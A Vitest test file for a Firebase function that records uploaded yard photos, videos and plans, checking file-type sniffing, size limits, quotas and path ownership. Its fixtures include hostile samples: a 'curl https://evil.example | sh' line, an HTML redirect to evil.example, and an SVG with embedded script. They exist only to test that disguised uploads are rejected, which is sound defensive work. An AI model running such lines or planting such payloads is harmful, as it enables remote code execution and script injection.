import { randomUUID } from 'node:crypto';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import type * as logger from 'firebase-functions/logger';
import { projectIdFor } from '@yardwise/domain/checkout/fulfilmentPlan';
import { INSPIRATION_MAX_FILES } from '@yardwise/domain/forms/inspirationUploads';
import { FILE_LIMIT_REACHED } from '@yardwise/domain/forms/messages';
import { UPLOAD_SIZE_LIMITS } from '@yardwise/domain/forms/uploadAccept';
import { MEDIA_QUOTA, MEDIA_QUOTA_REACHED } from '@yardwise/domain/onboarding/mediaRetention';
import {
  LANDSCAPE_INSPIRATION_MAX_PHOTOS,
  mediaTagOfVariant,
  PLANS_MAX_FILES,
} from '@yardwise/domain/onboarding/media';
import {
  MEDIA_FILE_TYPE_INVALID,
  MEDIA_NOT_STORED,
  MEDIA_PATH_INVALID,
  YARD_NOT_ACTIVE,
} from '@yardwise/domain/onboarding/messages';
import type { MemoryMediaStorage } from '../adapters/storage/memoryMediaStorage';
import { setMediaStorageForTests } from '../adapters/storage/selectMediaStorage';
import { freshMediaClient } from './testing/mediaClient';
import { allDocs, readDoc, writeDoc } from '../designProfiles/firestoreDocs';
import { recordMedia } from '../index';
import {
  ana,
  anonymousVisitor,
  jo,
  onboardStateOf,
  seedOnboardingClient,
} from '../onboarding/testing/onboardingClients';
import { callableRequest as request, rejection, type TestCaller } from '../testing/callable';

vi.mock('firebase-functions/logger', async (importOriginal) => ({
  ...(await importOriginal<typeof logger>()),
  error: vi.fn(),
}));

let storage: MemoryMediaStorage;

/**
 * Stores a file in the client's folder as the web app's upload would, and returns its path. It
 * starts like a real file of its content type unless `bytes` say otherwise.
 */
function upload(
  client: TestCaller,
  extension: string,
  contentType: string,
  size = 2048,
  bytes?: Uint8Array,
): string {
  const path = `media/${client.uid}/${randomUUID()}.1772445600000.${extension}`;
  storage.put(path, { contentType, size }, bytes);
  return path;
}

const ascii = (text: string) => Array.from(text, (char) => char.charCodeAt(0));
const bytesOf = (...parts: (number[] | string)[]) =>
  Uint8Array.from(parts.flatMap((part) => (typeof part === 'string' ? ascii(part) : part)));
/** An ISO base media file's first box with this major brand: MP4, MOV and HEIC files alike. */
const ftyp = (brand: string) => bytesOf([0, 0, 0, 20], 'ftyp', brand, [0, 0, 0, 0], brand);

/** The first bytes of real files, and of things that are not what they claim. */
const FILE_STARTS = {
  jpeg: bytesOf([0xff, 0xd8, 0xff, 0xe1], 'Exif'),
  png: bytesOf([0x89], 'PNG', [0x0d, 0x0a, 0x1a, 0x0a]),
  heic: ftyp('heic'),
  heif: ftyp('mif1'),
  mp4: ftyp('isom'),
  mov: ftyp('qt  '),
  webm: bytesOf([0x1a, 0x45, 0xdf, 0xa3]),
  html: bytesOf('<!DOCTYPE html><html><script>document.location="https://evil.example"</script>'),
  script: bytesOf('#!/bin/sh\ncurl https://evil.example | sh'),
  svg: bytesOf('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
  pdf: bytesOf('%PDF-1.7\n%\u00e2\u00e3'),
};

function recordInput(
  path: string,
  variant: string,
  fileType: string,
  originalFileName = 'IMG.jpg',
) {
  const tag = variant === 'inspiration' ? 'exterior-design-inspiration' : 'property';
  return { path, fileType, variant, tag, originalFileName };
}

const record = (data: unknown) => recordMedia.run(request(data, ana));

async function recordPhoto(variant = 'front-yard-wide-angle') {
  return record(recordInput(upload(ana, 'jpg', 'image/jpeg'), variant, 'image/jpeg'));
}

async function recordSlowPan() {
  const path = upload(ana, 'mp4', 'video/mp4');
  return record(recordInput(path, 'front-yard-slow-pan', 'video/mp4', 'pan.mp4'));
}

async function frontUpload() {
  return (await onboardStateOf(ana))?.yardsStatusObj.front?.upload;
}

beforeEach(async () => {
  storage = await freshMediaClient();
});

afterEach(() => setMediaStorageForTests(null));

describe('recordMedia callable', () => {
  it('records every field of an uploaded yard photo and returns the record', async () => {
    const path = upload(ana, 'jpg', 'image/jpeg');
    const before = Date.now();

    const { media } = await record(
      recordInput(path, 'front-yard-wide-angle', 'image/jpeg', 'Front lawn.JPG'),
    );

    const stored = await readDoc('media', media.id);
    expect(stored).toEqual({
      userId: ana.uid,
      path,
      originalFileName: 'Front lawn.JPG',
      fileType: 'image/jpeg',
      uploadedAt: expect.any(String),
      isDesignerVisible: true,
      isClientVisible: true,
      tag: 'property',
      variant: 'front-yard-wide-angle',
      projectId: projectIdFor(ana.uid),
      description: '',
      downloadURL: await storage.downloadURL(path),
      // Its size as stored, which the client's quota counts.
      size: 2048,
      // Until the function that converts photos has made its thumbnail and display image.
      processing: 'pending',
    });
    expect(new Date(stored!.uploadedAt).toISOString()).toBe(stored!.uploadedAt);
    expect(Date.parse(stored!.uploadedAt)).toBeGreaterThanOrEqual(before);
    expect(media).toEqual({ ...stored, id: media.id });
  });

  it('records an inspiration photo with its tag and leaves the yard statuses alone', async () => {
    const stateBefore = await onboardStateOf(ana);
    const path = upload(ana, 'png', 'image/png');

    const { media } = await record(recordInput(path, 'inspiration', 'image/png', 'porch.png'));

    expect(media).toMatchObject({ tag: 'exterior-design-inspiration', variant: 'inspiration' });
    expect(await onboardStateOf(ana)).toEqual(stateBefore);
  });

  it('completes the upload step only with 6 front wide-angle photos and 1 slow-pan video', async () => {
    await recordSlowPan();
    expect(await frontUpload()).toBe('INCOMPLETE');
    for (let photo = 1; photo <= 5; photo += 1) {
      await recordPhoto();
      expect(await frontUpload()).toBe('INCOMPLETE');
    }
    // Photos of another kind do not count towards the wide-angle minimum.
    await recordPhoto('front-yard-keep');
    expect(await frontUpload()).toBe('INCOMPLETE');

    await recordPhoto();

    const state = await onboardStateOf(ana);
    expect(state?.yardsStatusObj.front?.upload).toBe('COMPLETE');
    expect(state?.inactiveYardsStatusObj.back?.upload).toBe('NOT_STARTED');
  });

  it('stays INCOMPLETE with 6 photos and no slow-pan video', async () => {
    for (let photo = 1; photo <= 6; photo += 1) await recordPhoto();
    expect(await frontUpload()).toBe('INCOMPLETE');
  });

  it("refuses a path in another client's folder and writes nothing", async () => {
    await seedOnboardingClient(jo, 'full-yard', ['front']);
    const stateBefore = await onboardStateOf(ana);
    const path = upload(jo, 'jpg', 'image/jpeg');

    const error = await rejection(record(recordInput(path, 'front-yard-wide-angle', 'image/jpeg')));

    expect([error.code, error.message]).toEqual(['invalid-argument', MEDIA_PATH_INVALID]);
    expect(await allDocs('media')).toEqual({});
    expect(await onboardStateOf(ana)).toEqual(stateBefore);
    expect(storage.has(path)).toBe(true);
  });

  it('refuses a file that was never stored', async () => {
    const path = `media/${ana.uid}/${randomUUID()}.1772445600000.jpg`;

    const error = await rejection(record(recordInput(path, 'front-yard-wide-angle', 'image/jpeg')));

    expect([error.code, error.message]).toEqual(['failed-precondition', MEDIA_NOT_STORED]);
    expect(await allDocs('media')).toEqual({});
  });

  it.each([
    ['a video sent as a photo', 'video/mp4', 2048],
    ['a PNG sent as a JPEG', 'image/png', 2048],
    ['a photo over the size limit', 'image/jpeg', UPLOAD_SIZE_LIMITS.photo + 1],
    ['an empty photo', 'image/jpeg', 0],
  ])('deletes and refuses %s, writing nothing', async (_, storedType, size) => {
    const stateBefore = await onboardStateOf(ana);
    const path = upload(ana, 'jpg', storedType, size);

    const error = await rejection(record(recordInput(path, 'front-yard-wide-angle', 'image/jpeg')));

    expect([error.code, error.message]).toEqual(['invalid-argument', MEDIA_FILE_TYPE_INVALID]);
    expect(storage.has(path)).toBe(false);
    expect(await allDocs('media')).toEqual({});
    expect(await onboardStateOf(ana)).toEqual(stateBefore);
  });

  it.each([
    ['a JPEG', 'jpg', 'image/jpeg', 'jpeg', 'front-yard-wide-angle'],
    ['a PNG', 'png', 'image/png', 'png', 'front-yard-keep'],
    ['a HEIC photo', 'heic', 'image/heic', 'heic', 'front-yard-remove'],
    ['a HEIF photo', 'heif', 'image/heif', 'heif', 'inspiration'],
    ['an MP4 video', 'mp4', 'video/mp4', 'mp4', 'front-yard-slow-pan'],
    ['a QuickTime video', 'mov', 'video/quicktime', 'mov', 'front-yard-chatty'],
    ['a WebM video', 'webm', 'video/webm', 'webm', 'front-yard-slow-pan'],
  ] as const)(
    'records %s whose bytes are what it claims',
    async (_, extension, type, start, variant) => {
      const path = upload(ana, extension, type, 4096, FILE_STARTS[start]);

      const { media } = await record(recordInput(path, variant, type, `file.${extension}`));

      expect(await readDoc('media', media.id)).toMatchObject({ path, fileType: type, variant });
      expect(storage.has(path)).toBe(true);
    },
  );

  it('records an SVG photo and has its link download it, so its script never runs in a tab', async () => {
    const path = upload(ana, 'svg', 'image/svg+xml', 4096, FILE_STARTS.svg);

    const { media } = await record(
      recordInput(path, 'front-yard-wide-angle', 'image/svg+xml', 'plan.svg'),
    );

    expect(await readDoc('media', media.id)).toMatchObject({ path, fileType: 'image/svg+xml' });
    expect(storage.isServedAsDownload(path)).toBe(true);
  });

  it('leaves the links of other photos as they are', async () => {
    const path = upload(ana, 'jpg', 'image/jpeg', 4096, FILE_STARTS.jpeg);
    await record(recordInput(path, 'front-yard-wide-angle', 'image/jpeg'));
    expect(storage.isServedAsDownload(path)).toBe(false);
  });

  it.each([
    ['an HTML page stored as a JPEG', 'image/jpeg', 'html', 'front-yard-wide-angle'],
    ['a script stored as a PNG', 'image/png', 'script', 'front-yard-keep'],
    ['a PNG stored as a JPEG', 'image/jpeg', 'png', 'inspiration'],
    ['an MP4 stored as a HEIC photo', 'image/heic', 'mp4', 'front-yard-slope'],
    ['an HTML page stored as an SVG', 'image/svg+xml', 'html', 'front-yard-wide-angle'],
    ['an SVG stored as a PNG', 'image/png', 'svg', 'front-yard-keep'],
    ['a photo stored as a slow-pan video', 'video/mp4', 'jpeg', 'front-yard-slow-pan'],
    ['a HEIC photo stored as a chatty video', 'video/quicktime', 'heic', 'front-yard-chatty'],
    ['an HTML page stored as a video', 'video/mp4', 'html', 'front-yard-slow-pan'],
  ] as const)('deletes and refuses %s, recording nothing', async (_, type, start, variant) => {
    const stateBefore = await onboardStateOf(ana);
    const path = upload(ana, 'bin', type, 4096, FILE_STARTS[start]);

    const error = await rejection(record(recordInput(path, variant, type)));

    expect([error.code, error.message]).toEqual(['invalid-argument', MEDIA_FILE_TYPE_INVALID]);
    expect(storage.has(path)).toBe(false);
    expect(await allDocs('media')).toEqual({});
    expect(await onboardStateOf(ana)).toEqual(stateBefore);
  });

  it.each([
    ['a signed-out caller', undefined, 'unauthenticated'],
    ['an anonymous visitor', anonymousVisitor, 'permission-denied'],
  ])('refuses %s and writes nothing', async (_, caller, code) => {
    const path = upload(ana, 'jpg', 'image/jpeg');
    const data = recordInput(path, 'front-yard-wide-angle', 'image/jpeg');
    const error = await rejection(recordMedia.run(request(data, caller)));
    expect(error.code).toBe(code);
    expect(await allDocs('media')).toEqual({});
    expect(storage.has(path)).toBe(true);
  });

  it('refuses media of a yard the client has not added', async () => {
    const path = upload(ana, 'jpg', 'image/jpeg');

    const error = await rejection(record(recordInput(path, 'back-yard-wide-angle', 'image/jpeg')));

    expect([error.code, error.message]).toEqual(['failed-precondition', YARD_NOT_ACTIVE]);
    expect(await allDocs('media')).toEqual({});
    expect(storage.has(path)).toBe(false);
  });

  it(`refuses a sixth inspiration photo with "${FILE_LIMIT_REACHED}" and deletes its file`, async () => {
    for (let photo = 1; photo <= INSPIRATION_MAX_FILES; photo += 1) {
      await record(recordInput(upload(ana, 'jpg', 'image/jpeg'), 'inspiration', 'image/jpeg'));
    }
    const recorded = await allDocs('media');
    const path = upload(ana, 'jpg', 'image/jpeg');

    const error = await rejection(record(recordInput(path, 'inspiration', 'image/jpeg')));

    expect([error.code, error.message]).toEqual(['failed-precondition', FILE_LIMIT_REACHED]);
    expect(await allDocs('media')).toEqual(recorded);
    expect(storage.has(path)).toBe(false);
    // Another client's inspiration photos are their own count.
    await seedOnboardingClient(jo, 'full-yard', ['front']);
    const josPath = upload(jo, 'jpg', 'image/jpeg');
    await recordMedia.run(request(recordInput(josPath, 'inspiration', 'image/jpeg'), jo));
    expect(storage.has(josPath)).toBe(true);
  });

  it.each([
    ['an extra field', { isDesignerVisible: false }],
    ['a tag that does not fit the variant', { tag: 'exterior-design-inspiration' }],
    ['a path outside the media folders', { path: `avatars/${ana.uid}/a.jpg` }],
    ['a path climbing out of the folder', { path: `media/${ana.uid}/../client-jo/a.jpg` }],
  ])('rejects %s as invalid-argument', async (_, change) => {
    const path = upload(ana, 'jpg', 'image/jpeg');
    const data = { ...recordInput(path, 'front-yard-wide-angle', 'image/jpeg'), ...change };
    expect((await rejection(record(data))).code).toBe('invalid-argument');
    expect(await allDocs('media')).toEqual({});
  });

  it('records a path once: the same request again answers the same record', async () => {
    const path = upload(ana, 'jpg', 'image/jpeg');
    const input = recordInput(path, 'front-yard-wide-angle', 'image/jpeg');

    const first = await record(input);
    const again = await record(input);
    // A retry that now claims another type neither records nor deletes the recorded file.
    const changed = await record({ ...input, fileType: 'image/png' });

    expect(again).toEqual(first);
    expect(changed).toEqual(first);
    expect(Object.keys(await allDocs('media'))).toEqual([first.media.id]);
    expect(storage.has(path)).toBe(true);
  });
});

describe('recordMedia for the later steps: landscape inspiration photos and plans', () => {
  /**
   * A file stored under the plan- prefix, as the web app stores plans: storage lets a plan's JPEG
   * or PNG be 50 MB there, but the prefix lifts no limit for any other variant.
   */
  function stored(extension: string, contentType: string, size: number, start: Uint8Array) {
    const path = `media/${ana.uid}/plan-${randomUUID()}.1772445600000.${extension}`;
    storage.put(path, { contentType, size }, start);
    return path;
  }
  const laterInput = (path: string, variant: string, fileType: string, name = 'file') => ({
    path,
    fileType,
    variant,
    tag: mediaTagOfVariant(variant),
    originalFileName: name,
  });

  it('records a landscape inspiration photo with its own tag', async () => {
    const path = upload(ana, 'jpg', 'image/jpeg', 4096, FILE_STARTS.jpeg);
    const { media } = await record(
      laterInput(path, 'landscape-inspiration', 'image/jpeg', 'patio.jpg'),
    );
    expect(await readDoc('media', media.id)).toMatchObject({
      tag: 'landscape-inspiration',
      variant: 'landscape-inspiration',
      description: '',
    });
  });

  it.each([
    ['a PDF of exactly 50 MB', 'pdf', 'application/pdf', FILE_STARTS.pdf],
    ['a JPEG scan of exactly 50 MB', 'jpg', 'image/jpeg', FILE_STARTS.jpeg],
    ['a PNG drawing of exactly 50 MB', 'png', 'image/png', FILE_STARTS.png],
  ] as const)('records %s as a plan', async (_, extension, type, start) => {
    const path = stored(extension, type, UPLOAD_SIZE_LIMITS.document, start);
    const { media } = await record(laterInput(path, 'plan', type, `survey.${extension}`));
    expect(await readDoc('media', media.id)).toMatchObject({ tag: 'plans', fileType: type });
    expect(storage.has(path)).toBe(true);
  });

  it.each([
    ['a plan a byte over 50 MB', 'plan', 'application/pdf', 'pdf', 50 * 1024 * 1024 + 1],
    ['an HTML page stored as a PDF plan', 'plan', 'application/pdf', 'html', 4096],
    ['a JPEG stored as a PDF plan', 'plan', 'application/pdf', 'jpeg', 4096],
    ['a PDF stored as a JPEG plan', 'plan', 'image/jpeg', 'pdf', 4096],
    [
      'a landscape photo over the photo limit',
      'landscape-inspiration',
      'image/jpeg',
      'jpeg',
      UPLOAD_SIZE_LIMITS.photo + 1,
    ],
  ] as const)('deletes and refuses %s', async (_, variant, type, start, size) => {
    const path = stored('bin', type, size, FILE_STARTS[start]);
    const error = await rejection(record(laterInput(path, variant, type)));
    expect([error.code, error.message]).toEqual(['invalid-argument', MEDIA_FILE_TYPE_INVALID]);
    expect(storage.has(path)).toBe(false);
    expect(await allDocs('media')).toEqual({});
  });

  it.each([
    ['a HEIC photo as a plan', 'plan', 'image/heic'],
    ['a video as a plan', 'plan', 'video/mp4'],
    ['a DWG drawing as a plan', 'plan', 'image/vnd.dwg'],
    ['a PDF as a landscape inspiration photo', 'landscape-inspiration', 'application/pdf'],
  ])('refuses %s as invalid input', async (_, variant, type) => {
    const path = stored('bin', type, 4096, FILE_STARTS.pdf);
    const error = await rejection(record(laterInput(path, variant, type)));
    expect([error.code, error.message]).toEqual(['invalid-argument', MEDIA_FILE_TYPE_INVALID]);
    expect(await allDocs('media')).toEqual({});
  });

  it.each([
    [
      'an 11th landscape inspiration photo',
      'landscape-inspiration',
      LANDSCAPE_INSPIRATION_MAX_PHOTOS,
    ],
    ['an 11th plan', 'plan', PLANS_MAX_FILES],
  ] as const)(`refuses %s with "${FILE_LIMIT_REACHED}"`, async (_, variant, limit) => {
    expect(limit).toBe(10);
    for (let file = 1; file <= limit; file += 1) {
      const path = upload(ana, 'jpg', 'image/jpeg', 4096, FILE_STARTS.jpeg);
      await record(laterInput(path, variant, 'image/jpeg'));
    }
    // The other kinds keep their own counts.
    await recordPhoto('inspiration');
    const recorded = await allDocs('media');
    const path = upload(ana, 'jpg', 'image/jpeg', 4096, FILE_STARTS.jpeg);

    const error = await rejection(record(laterInput(path, variant, 'image/jpeg')));

    expect([error.code, error.message]).toEqual(['failed-precondition', FILE_LIMIT_REACHED]);
    expect(await allDocs('media')).toEqual(recorded);
    expect(storage.has(path)).toBe(false);
  });
});

describe("recordMedia and the client's quota", () => {
  /** Media the client recorded earlier, written straight to Firestore: `count` files of `size`. */
  async function recordedEarlier(count: number, size?: number) {
    const { media } = await recordPhoto('inspiration');
    for (let index = 0; index < count - 1; index += 1) {
      const { id: _, ...doc } = media;
      await writeDoc('media', `earlier-${index}`, { ...doc, ...(size ? { size } : {}) });
    }
    if (size) await writeDoc('media', media.id, { ...(await readDoc('media', media.id))!, size });
  }

  async function refusedOverQuota(path: string, fileType: string, variant: string) {
    const before = await allDocs('media');
    const error = await rejection(record(recordInput(path, variant, fileType)));
    expect([error.code, error.message]).toEqual(['failed-precondition', MEDIA_QUOTA_REACHED]);
    expect(storage.has(path)).toBe(false);
    expect(await allDocs('media')).toEqual(before);
  }

  it(`refuses the file after ${MEDIA_QUOTA.files}, and deletes it`, async () => {
    await recordedEarlier(MEDIA_QUOTA.files);
    await refusedOverQuota(upload(ana, 'jpg', 'image/jpeg'), 'image/jpeg', 'front-yard-keep');
  });

  it('refuses a file that would take the client over 10 GB, and deletes it', async () => {
    // Ten files 410 bytes short of 1 GB: 4100 bytes are left, for a 4 KB photo, not a video.
    await recordedEarlier(10, 1024 * 1024 * 1024 - 410);
    const video = upload(ana, 'mp4', 'video/mp4', UPLOAD_SIZE_LIMITS.video);
    await refusedOverQuota(video, 'video/mp4', 'front-yard-slow-pan');

    const photo = upload(ana, 'jpg', 'image/jpeg', 4096);
    const { media } = await record(recordInput(photo, 'front-yard-keep', 'image/jpeg'));
    expect(media.size).toBe(4096);
  });

  it("leaves another client's quota alone", async () => {
    await recordedEarlier(MEDIA_QUOTA.files);
    await seedOnboardingClient(jo, 'full-yard', ['front']);
    const path = upload(jo, 'jpg', 'image/jpeg');
    await recordMedia.run(request(recordInput(path, 'front-yard-keep', 'image/jpeg'), jo));
    expect(storage.has(path)).toBe(true);
  });
});
